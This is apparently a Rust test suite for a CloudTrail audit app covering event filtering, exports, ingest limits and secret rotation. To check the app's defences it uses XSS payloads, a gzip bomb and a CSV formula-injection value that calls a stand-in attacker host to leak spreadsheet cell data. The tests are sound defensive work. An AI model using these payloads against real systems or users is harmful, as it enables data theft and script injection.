//! The events explorer, its JSON API and its exports, over the sample CloudTrail records
//! ingested into a real PostgreSQL.

use crate::common;

use axum::Router;
use axum::http::StatusCode;
use serde_json::Value;
use sqlx::PgPool;
use trailkeeper::ingest::sources::files::ingest_file;
use trailkeeper_app::Role;

use common::{As, app, get, signed_in};

const SECRET: &str = "arn:aws:secretsmanager:us-east-1:111122223333:secret:prod/payments/db-AbCdEf";
const JDOE: &str = "arn:aws:iam::111122223333:user/jdoe";

/// The secret the records name, as the inventory holds it.
async fn add_secret(pool: &PgPool) {
    sqlx::query(
        "INSERT INTO secrets (arn, name, region, account_id) \
         VALUES ($1, 'prod/payments/db', 'us-east-1', '111122223333')",
    )
    .bind(SECRET)
    .execute(pool)
    .await
    .unwrap();
}

async fn with_samples(pool: &PgPool) {
    add_secret(pool).await;
    let samples = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples");
    ingest_file(pool, &samples.join("records.jsonl"))
        .await
        .unwrap();
}

async fn events(app: &Router, query: &str, who: &As) -> (StatusCode, Value) {
    let fetched = get(app, &format!("/api/v1/events?{query}"), who).await;
    (fetched.status, serde_json::from_str(&fetched.body).unwrap())
}

fn ids(page: &Value) -> Vec<String> {
    page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|event| {
            let id = event["event_id"].as_str().unwrap();
            id[id.len() - 4..].to_string()
        })
        .collect()
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn the_api_filters_events_newest_first_and_pages_through_them(pool: PgPool) {
    with_samples(&pool).await;
    let app = app(pool.clone()).await;
    let viewer = signed_in(&pool, "vera", Role::Viewer).await;

    let (status, all) = events(&app, "", &viewer).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(all["items"].as_array().unwrap().len(), 15);
    assert_eq!(ids(&all)[..3], ["000e", "000f", "000d"], "newest first");
    let first = &all["items"][0];
    assert_eq!(first["raw"]["eventName"], "EndSecretVersionDelete");

    // A secret by name finds the events that named it by name, partial or full ARN.
    let (_, by_secret) = events(
        &app,
        "secret=prod/payments/db&event_name=GetSecretValue",
        &viewer,
    )
    .await;
    assert_eq!(ids(&by_secret), ["000f", "0002", "0001"]);
    let (_, by_principal) = events(&app, &format!("principal={JDOE}&access=write"), &viewer).await;
    assert_eq!(ids(&by_principal), ["000d", "000c", "000b"]);
    let (_, role) = events(&app, "principal=payments-api-task", &viewer).await;
    assert_eq!(ids(&role), ["0001"]);
    assert_eq!(
        role["items"][0]["principal"],
        "arn:aws:iam::111122223333:role/payments-api-task"
    );
    let (_, errors) = events(&app, "error_code=any", &viewer).await;
    assert_eq!(ids(&errors), ["0002"]);
    let (_, denied) = events(
        &app,
        "error_code=AccessDenied&source_ip=203.0.113.0/24",
        &viewer,
    )
    .await;
    assert_eq!(ids(&denied), ["0002"]);
    let (_, network) = events(&app, "source_ip=198.51.100.23", &viewer).await;
    assert_eq!(ids(&network), ["000f"]);
    let (_, window) = events(
        &app,
        "since=2026-10-03T09:00:00Z&until=2026-10-04T00:00:03Z",
        &viewer,
    )
    .await;
    assert_eq!(ids(&window), ["0005", "0004", "0003", "0002"]);
    let (_, one) = events(
        &app,
        "event_id=0b1e7a52-6c1d-4c55-9f0a-000000000001",
        &viewer,
    )
    .await;
    assert_eq!(ids(&one), ["0001"]);

    // Pages of 4 continue exactly where the last one stopped.
    let mut seen = Vec::new();
    let mut query = "limit=4".to_string();
    loop {
        let (status, page) = events(&app, &query, &viewer).await;
        assert_eq!(status, StatusCode::OK);
        seen.extend(ids(&page));
        match page["next"].as_str() {
            Some(next) => query = format!("limit=4&cursor={next}"),
            None => break,
        }
    }
    assert_eq!(seen, ids(&all));

    for bad in [
        "source_ip=10.0.0.999",
        "since=yesterday",
        "cursor=nonsense",
        "limit=0",
    ] {
        let (status, body) = events(&app, bad, &viewer).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{bad}");
        assert!(body["error"].as_str().unwrap().len() > 10, "{bad}: {body}");
    }
    let (status, _) = events(&app, "", &As::Nobody).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn exports_stream_the_filter_for_auditors_and_are_audited(pool: PgPool) {
    with_samples(&pool).await;
    let app = app(pool.clone()).await;
    let auditor = signed_in(&pool, "audrey", Role::Auditor).await;
    let viewer = signed_in(&pool, "vera", Role::Viewer).await;

    let csv = get(
        &app,
        "/api/v1/events/export.csv?secret=prod/payments/db&range=all",
        &auditor,
    )
    .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(
        csv.headers["content-disposition"]
            .to_str()
            .unwrap()
            .contains(".csv")
    );
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let header = reader.headers().unwrap().clone();
    assert_eq!(&header[0], "event_time");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let by_secret = rows.iter().filter(|row| &row[6] == SECRET).count();
    assert_eq!(by_secret, rows.len());
    // Every event but the batch read, which names no one secret.
    assert_eq!(rows.len(), 14);

    let lines = get(
        &app,
        "/api/v1/events/export.jsonl?error_code=AccessDenied",
        &auditor,
    )
    .await;
    assert_eq!(lines.status, StatusCode::OK);
    let records: Vec<Value> = lines
        .body
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0]["raw"]["errorCode"], "AccessDenied");

    let refused = get(&app, "/api/v1/events/export.csv", &viewer).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);

    let audited: Vec<(String, String)> = sqlx::query_as(
        "SELECT actor, summary FROM audit_log WHERE action = 'events.exported' ORDER BY id",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    assert_eq!(audited.len(), 2);
    assert_eq!(audited[0].0, "audrey");
    assert!(audited[0].1.contains("csv"), "{audited:?}");
    assert!(audited[1].1.contains("AccessDenied"), "{audited:?}");
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn the_explorer_charts_lists_and_opens_events_with_their_records_as_text(pool: PgPool) {
    with_samples(&pool).await;
    // A record whose fields hold markup.
    let dir = tempfile::tempdir().unwrap();
    let hostile = dir.path().join("hostile.json");
    std::fs::write(
        &hostile,
        r#"{"eventID": "hostile-1", "eventTime": "2026-10-05T10:00:00Z", "eventSource": "secretsmanager.amazonaws.com", "eventName": "GetSecretValue", "userAgent": "<script>alert(1)</script>", "requestParameters": {"secretId": "<img src=x onerror=alert(1)>"}}"#,
    )
    .unwrap();
    ingest_file(&pool, &hostile).await.unwrap();
    let app = app(pool.clone()).await;
    let viewer = signed_in(&pool, "vera", Role::Viewer).await;

    let page = get(&app, "/events?range=all&principal=jdoe", &viewer).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("data-testid=\"event-histogram\""));
    // Five events by jdoe on two days: a bar for each of those days.
    assert_eq!(page.body.matches("<rect").count(), 2, "{}", page.body);
    assert_eq!(page.body.matches("data-event-id=").count(), 5);
    assert!(page.body.contains("Exports need the auditor role"));

    let opened = get(&app, "/events/hostile-1", &viewer).await;
    assert_eq!(opened.status, StatusCode::OK);
    assert!(opened.body.contains("data-testid=\"event-record\""));
    assert!(!opened.body.contains("<script>alert"));
    assert!(!opened.body.contains("<img src=x"));
    assert!(
        opened
            .body
            .contains("&lt;script&gt;alert(1)&lt;/script&gt;")
    );

    let missing = get(&app, "/events/no-such-event", &viewer).await;
    assert!(missing.body.contains("data-testid=\"event-not-found\""));
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn a_secrets_access_report_lists_who_used_it_with_sources_and_errors(pool: PgPool) {
    with_samples(&pool).await;
    let app = app(pool.clone()).await;
    let viewer = signed_in(&pool, "vera", Role::Viewer).await;
    let auditor = signed_in(&pool, "audrey", Role::Auditor).await;

    let fetched = get(
        &app,
        "/api/v1/secrets/prod/payments/db/access?range=all",
        &viewer,
    )
    .await;
    assert_eq!(fetched.status, StatusCode::OK, "{}", fetched.body);
    let report: Value = serde_json::from_str(&fetched.body).unwrap();
    assert_eq!(report["secret_arn"], SECRET);
    let principals = report["principals"].as_array().unwrap();
    let jdoe = principals
        .iter()
        .find(|access| access["principal"] == JDOE)
        .unwrap();
    // One denied read and three writes, all from one address.
    assert_eq!(
        (&jdoe["reads"], &jdoe["writes"], &jdoe["errors"]),
        (&Value::from(1), &Value::from(3), &Value::from(1))
    );
    assert_eq!(jdoe["sources"], serde_json::json!(["203.0.113.45"]));
    assert_eq!(jdoe["error_codes"], serde_json::json!(["AccessDenied"]));
    let outsider = principals
        .iter()
        .find(|access| access["principal_account"] == "444455556666")
        .unwrap();
    assert_eq!(
        outsider["principal"],
        "arn:aws:iam::444455556666:role/ci-deployer"
    );
    // A period without events has nobody in it.
    let (status, empty) = {
        let fetched = get(
            &app,
            "/api/v1/secrets/prod/payments/db/access?since=2020-01-01T00:00:00Z&until=2020-02-01T00:00:00Z",
            &viewer,
        )
        .await;
        (
            fetched.status,
            serde_json::from_str::<Value>(&fetched.body).unwrap(),
        )
    };
    assert_eq!(status, StatusCode::OK);
    assert_eq!(empty["principals"], serde_json::json!([]));

    let csv = get(
        &app,
        "/api/v1/secrets/prod/payments/db/access?range=all&format=csv",
        &viewer,
    )
    .await;
    assert_eq!(csv.status, StatusCode::FORBIDDEN);
    let csv = get(
        &app,
        "/api/v1/secrets/prod/payments/db/access?range=all&format=csv",
        &auditor,
    )
    .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.body.starts_with("principal,principal_account,events"));
    assert!(csv.body.contains(JDOE));

    // The secret's page shows the same report.
    let page = get(&app, "/secrets/prod/payments/db?range=all", &viewer).await;
    assert!(page.body.contains("data-testid=\"access-principals\""));
    assert!(page.body.contains(&format!("data-principal=\"{JDOE}\"")));
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn the_overview_counts_the_last_days_events_errors_and_busiest_principals(pool: PgPool) {
    with_samples(&pool).await;
    let recent = |id: &str, who: &str, error: Option<&str>| {
        serde_json::json!({
            "eventID": id,
            "eventTime": (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339(),
            "eventSource": "secretsmanager.amazonaws.com",
            "eventName": "GetSecretValue",
            "errorCode": error,
            "requestParameters": { "secretId": "prod/payments/db" },
            "userIdentity": { "type": "IAMUser", "arn": who }
        })
        .to_string()
    };
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("recent.jsonl");
    std::fs::write(
        &file,
        [
            recent("r-1", "arn:aws:iam::111122223333:user/busy", None),
            recent("r-2", "arn:aws:iam::111122223333:user/busy", None),
            recent("r-3", JDOE, Some("AccessDenied")),
        ]
        .join("\n"),
    )
    .unwrap();
    ingest_file(&pool, &file).await.unwrap();
    let app = app(pool.clone()).await;
    let viewer = signed_in(&pool, "vera", Role::Viewer).await;

    let page = get(&app, "/", &viewer).await;
    assert!(
        page.body.contains("3 events in the last 24 hours"),
        "{}",
        page.body
    );
    assert!(page.body.contains("1 failed"));
    let top = &page.body[page.body.find("data-testid=\"top-principals\"").unwrap()..];
    let busy = top.find("user/busy").unwrap();
    let jdoe = top.find("user/jdoe").unwrap();
    assert!(busy < jdoe, "the busiest first");
}

async fn post_body(app: &Router, body: Vec<u8>, who: &As) -> common::Fetched {
    let As::Cookie(cookie) = who else {
        panic!("a signed-in user")
    };
    let request = axum::http::Request::post("/api/v1/ingest")
        .header("host", common::HOST)
        .header("origin", common::ORIGIN)
        .header("cookie", cookie)
        .header("content-type", "application/octet-stream")
        .body(axum::body::Body::from(body))
        .unwrap();
    common::send(app, request).await
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn admins_post_files_of_any_format_to_the_ingest_api(pool: PgPool) {
    let app = app(pool.clone()).await;
    let admin = signed_in(&pool, "ada", Role::Admin).await;
    let auditor = signed_in(&pool, "audrey", Role::Auditor).await;
    let samples = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples");
    let gzip = std::fs::read(
        samples.join("111122223333_CloudTrail_us-east-1_20261003T0815Z_Ab12Cd34Ef56Gh78.json.gz"),
    )
    .unwrap();

    let refused = post_body(&app, gzip.clone(), &auditor).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);

    let first = post_body(&app, gzip.clone(), &admin).await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    let summary: Value = serde_json::from_str(&first.body).unwrap();
    assert_eq!(summary["format"], "CloudTrail log file, gzip");
    assert!(summary["new"].as_u64().unwrap() > 0);
    let again: Value = serde_json::from_str(&post_body(&app, gzip, &admin).await.body).unwrap();
    assert_eq!(again["new"], 0);
    assert_eq!(again["duplicates"], summary["new"]);

    // Larger than any other request may be: a JSON Lines file of a few megabytes.
    let line = std::fs::read_to_string(samples.join("records.jsonl")).unwrap();
    let record: Value = serde_json::from_str(line.lines().next().unwrap()).unwrap();
    let big: Vec<String> = (0..3000)
        .map(|n| {
            let mut record = record.clone();
            record["eventID"] = Value::from(format!("big-{n}"));
            record.to_string()
        })
        .collect();
    let big = big.join("\n").into_bytes();
    assert!(big.len() > trailkeeper::web::MAX_REQUEST_BODY);
    let stored = post_body(&app, big, &admin).await;
    assert_eq!(stored.status, StatusCode::OK, "{}", stored.body);
    assert!(stored.body.contains("\"new\":3000"), "{}", stored.body);

    let junk = post_body(&app, b"not cloudtrail".to_vec(), &admin).await;
    assert_eq!(junk.status, StatusCode::BAD_REQUEST);
    assert!(junk.body.contains("quarantined"), "{}", junk.body);

    let audited: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_log WHERE action = 'events.ingested'")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(audited, 4);
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn a_gzip_bomb_posted_to_the_ingest_api_is_quarantined_within_its_limit(pool: PgPool) {
    let app = common::app_with(&pool, &["--max-file-size", "16MiB"]).await;
    let admin = signed_in(&pool, "ada", Role::Admin).await;
    let bomb = common::gzip_bomb();

    let before = common::peak_memory();
    let posts = (0..4).map(|_| post_body(&app, bomb.clone(), &admin));
    let answers = futures::future::join_all(posts).await;
    let grew = common::peak_memory().saturating_sub(before);
    assert!(
        grew < 1024 * 1024 * 1024,
        "four 4 GiB gzip bombs under a 16 MiB limit raised peak memory by {grew} bytes"
    );
    for answer in answers {
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{}", answer.body);
        assert!(
            answer
                .body
                .contains("larger than the limit of 16777216 bytes"),
            "{}",
            answer.body
        );
    }

    // The server still answers, and still ingests.
    let samples = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples");
    let good = std::fs::read(samples.join("records.jsonl")).unwrap();
    let stored = post_body(&app, good, &admin).await;
    assert_eq!(stored.status, StatusCode::OK, "{}", stored.body);
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn exports_write_formula_looking_fields_as_text(pool: PgPool) {
    with_samples(&pool).await;
    let hostile = "=HYPERLINK(\"http://attacker.test/?\"&A1,\"click\")";
    let mut record = common::bobs_call(
        "formula-1",
        "2026-10-03T09:00:00Z",
        "GetSecretValue",
        serde_json::json!({ "secretId": SECRET }),
    );
    record["userAgent"] = Value::from(hostile);
    record["sourceIPAddress"] = Value::from("@lambda.amazonaws.com");
    common::ingest_records(&pool, vec![record]).await;
    let app = app(pool.clone()).await;
    let auditor = signed_in(&pool, "audrey", Role::Auditor).await;

    for uri in [
        "/api/v1/events/export.csv?range=all",
        "/api/v1/secrets/prod/payments/db/access?range=all&format=csv",
    ] {
        let csv = get(&app, uri, &auditor).await;
        assert_eq!(csv.status, StatusCode::OK, "{uri}: {}", csv.body);
        let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|row| row.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        // The access report lists user agents by family: lower case, cut at the first '/'.
        assert!(
            cells
                .iter()
                .any(|cell| cell.starts_with("'=") && cell.to_lowercase().contains("hyperlink")),
            "{uri}: the hostile user agent is exported as text: {cells:?}"
        );
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{uri}: a spreadsheet would run {cell:?}"
            );
        }
    }
    let events = get(&app, "/api/v1/events/export.csv?range=all", &auditor).await;
    assert!(
        events
            .body
            .contains(&format!("'{}", hostile.replace('"', "\"\""))),
        "{}",
        events.body
    );
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn secret_values_in_posted_records_are_never_stored_shown_or_exported(pool: PgPool) {
    let app = app(pool.clone()).await;
    let admin = signed_in(&pool, "ada", Role::Admin).await;
    let canaries = [
        "secretString",
        "secretBinary",
        "SecretString",
        "SecretBinary",
        "randomPassword",
        "password",
    ]
    .map(|field| (field, format!("CANARY-{field}-7f3a")));
    let mut request = serde_json::json!({ "secretId": SECRET });
    let mut response = serde_json::json!({});
    for (index, (field, canary)) in canaries.iter().enumerate() {
        if index % 2 == 0 {
            request[*field] = Value::from(canary.as_str());
        } else {
            response["nested"] = serde_json::json!([{ *field: canary }]);
            response[*field] = Value::from(canary.as_str());
        }
    }
    let mut record = common::bobs_call(
        "canary-1",
        "2026-10-03T09:00:00Z",
        "PutSecretValue",
        request.clone(),
    );
    record["responseElements"] = response;
    // A record that cannot be stored is quarantined with an excerpt: hidden there too.
    let mut broken = record.clone();
    broken["eventID"] = Value::Null;
    let body = serde_json::json!({ "Records": [record, broken] }).to_string();
    let stored = post_body(&app, body.into_bytes(), &admin).await;
    assert_eq!(stored.status, StatusCode::OK, "{}", stored.body);
    assert!(stored.body.contains("\"new\":1"), "{}", stored.body);
    assert!(stored.body.contains("\"quarantined\":1"), "{}", stored.body);

    let auditor = signed_in(&pool, "audrey", Role::Auditor).await;
    let shown = [
        get(&app, "/events/canary-1", &auditor).await.body,
        get(&app, "/api/v1/events?range=all", &auditor).await.body,
        get(&app, "/api/v1/events/export.jsonl?range=all", &auditor)
            .await
            .body,
        get(&app, "/api/v1/events/export.csv?range=all", &auditor)
            .await
            .body,
    ];
    assert!(shown[0].contains("HIDDEN_BY_TRAILKEEPER"), "{}", shown[0]);
    assert!(shown[2].contains("HIDDEN_BY_TRAILKEEPER"), "{}", shown[2]);

    let database: String = sqlx::query_scalar("SELECT current_database()")
        .fetch_one(&pool)
        .await
        .unwrap();
    // `make test` runs under `trailkeeper db run`, which sets libpq's PGHOST and friends.
    let dump = std::process::Command::new("pg_dump")
        .args(["--data-only", "--dbname", &database])
        .output()
        .unwrap();
    assert!(
        dump.status.success(),
        "{}",
        String::from_utf8_lossy(&dump.stderr)
    );
    let dump = String::from_utf8_lossy(&dump.stdout);
    assert!(dump.contains("canary-1"), "the dump holds the event");
    assert!(dump.contains("HIDDEN_BY_TRAILKEEPER"));
    for (field, canary) in &canaries {
        assert!(
            !dump.contains(canary.as_str()),
            "{field}'s value is in the database"
        );
        for text in &shown {
            assert!(!text.contains(canary.as_str()), "{field}'s value is shown");
        }
    }
}

/// A CloudTrail record about `SECRET` at `at` by the role `who` (or Secrets Manager itself).
fn about_the_secret(
    id: &str,
    at: chrono::DateTime<chrono::Utc>,
    name: &str,
    who: Option<&str>,
) -> Value {
    let identity = match who {
        Some(role) => serde_json::json!({
            "type": "AssumedRole", "accountId": "111122223333",
            "arn": format!("arn:aws:sts::111122223333:assumed-role/{role}/{role}-1"),
        }),
        None => {
            serde_json::json!({ "type": "AWSService", "invokedBy": "secretsmanager.amazonaws.com" })
        }
    };
    serde_json::json!({
        "eventVersion": "1.09", "eventID": id, "eventName": name,
        "eventTime": at.format("%Y-%m-%dT%H:%M:%SZ").to_string(),
        "eventSource": "secretsmanager.amazonaws.com", "awsRegion": "us-east-1",
        "recipientAccountId": "111122223333", "userIdentity": identity,
        "sourceIPAddress": "10.0.1.5", "resources": [{ "ARN": SECRET }],
        "requestParameters": { "secretId": SECRET }
    })
}

#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
async fn a_rotations_consumers_are_compared_before_and_after_and_a_stale_one_is_found(
    pool: PgPool,
) {
    use chrono::{Duration, Utc};
    let rotated = Utc::now() - Duration::days(4);
    let mut records = Vec::new();
    let mut read = |id: String, at, who: &str, tweak: &dyn Fn(&mut Value)| {
        let mut record = about_the_secret(&id, at, "GetSecretValue", Some(who));
        tweak(&mut record);
        records.push(record);
    };
    let denied = |record: &mut Value| {
        record["errorCode"] = "AccessDenied".into();
        record["errorMessage"] = "not authorized".into();
    };
    for day in 1..=3 {
        let before = rotated - Duration::days(day);
        for who in ["moved", "stale", "failing", "quiet"] {
            read(format!("{who}-before-{day}"), before, who, &|_| {});
        }
        read(format!("never-before-{day}"), before, "never", &denied);
        let after = rotated + Duration::days(day) - Duration::hours(12);
        read(format!("moved-after-{day}"), after, "moved", &|_| {});
        read(format!("new-after-{day}"), after, "newcomer", &|_| {});
        read(format!("stale-after-{day}"), after, "stale", &|record| {
            record["requestParameters"]["versionStage"] = "AWSPREVIOUS".into();
        });
        read(format!("failing-after-{day}"), after, "failing", &denied);
        read(format!("never-after-{day}"), after, "never", &denied);
    }
    let service = |id: &str, at, name| about_the_secret(id, at, name, None);
    let mut moved = about_the_secret(
        "move",
        rotated + Duration::seconds(30),
        "UpdateSecretVersionStage",
        Some("rotation"),
    );
    moved["requestParameters"] = serde_json::json!({
        "secretId": SECRET, "versionStage": "AWSCURRENT",
        "moveToVersionId": "v2", "removeFromVersionId": "v1"
    });
    let mut failed = service("failed", rotated - Duration::days(20), "RotationFailed");
    failed["errorMessage"] = "Error when executing lambda during setSecret step".into();
    records.extend([
        service(
            "started-before",
            rotated - Duration::days(20) - Duration::minutes(1),
            "RotationStarted",
        ),
        failed,
        service("started", rotated, "RotationStarted"),
        moved,
        service(
            "succeeded",
            rotated + Duration::minutes(1),
            "RotationSucceeded",
        ),
    ]);
    records.sort_by_key(|record| record["eventTime"].as_str().unwrap().to_string());
    let scratch = tempfile::tempdir().unwrap();
    let path = scratch.path().join("rotation.json");
    std::fs::write(&path, serde_json::json!({ "Records": records }).to_string()).unwrap();
    add_secret(&pool).await;
    ingest_file(&pool, &path).await.unwrap();

    let app = app(pool.clone()).await;
    let viewer = signed_in(&pool, "vera", Role::Viewer).await;
    let fetched = get(&app, "/api/v1/secrets/prod/payments/db/rotations", &viewer).await;
    assert_eq!(fetched.status, StatusCode::OK, "{}", fetched.body);
    let rotations: Value = serde_json::from_str(&fetched.body).unwrap();
    let outcomes: Vec<&str> = rotations
        .as_array()
        .unwrap()
        .iter()
        .map(|rotation| rotation["outcome"].as_str().unwrap())
        .collect();
    assert_eq!(outcomes, ["succeeded", "failed"], "newest first");
    let latest = &rotations[0];
    assert_eq!(
        (&latest["new_version"], &latest["superseded_version"]),
        (&"v2".into(), &"v1".into())
    );
    let verdicts: Vec<(&str, &str)> = latest["consumers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|consumer| {
            let principal = consumer["principal"].as_str().unwrap();
            (
                principal.rsplit('/').next().unwrap(),
                consumer["verdict"].as_str().unwrap(),
            )
        })
        .collect();
    // The worst first; a principal refused before and after never had the value to lose.
    assert_eq!(
        verdicts,
        [
            ("stale", "stale_version"),
            ("failing", "failing"),
            ("quiet", "stopped_reading"),
            ("moved", "moved_on"),
            ("newcomer", "new"),
        ]
    );
    let stale = &latest["consumers"][0];
    assert_eq!(
        (&stale["reads_before"], &stale["stale_reads_after"]),
        (&3.into(), &3.into())
    );
    assert_eq!(
        rotations[1]["message"],
        "Error when executing lambda during setSecret step"
    );

    // Past a day after the rotation, the stale and the failing consumers are findings.
    let found: Vec<(String, String)> = sqlx::query_as(
        "SELECT principal, title FROM findings WHERE kind = 'rotation_stale_consumer' \
         ORDER BY principal",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    assert_eq!(
        found,
        [
            (
                "arn:aws:iam::111122223333:role/failing".to_string(),
                "failing (session failing-1) has failed to read prod/payments/db since its rotation"
                    .to_string()
            ),
            (
                "arn:aws:iam::111122223333:role/stale".to_string(),
                "stale (session stale-1) still reads the old version of prod/payments/db"
                    .to_string()
            ),
        ]
    );

    // The secret's page shows the panel; an unknown secret's rotations are not found.
    let page = get(&app, "/secrets/prod/payments/db", &viewer).await;
    assert!(page.body.contains("data-testid=\"rotation-impact\""));
    assert!(
        page.body.contains("3 of 5 consumers need a look."),
        "{}",
        page.body
    );
    let missing = get(&app, "/api/v1/secrets/no/such/secret/rotations", &viewer).await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
}
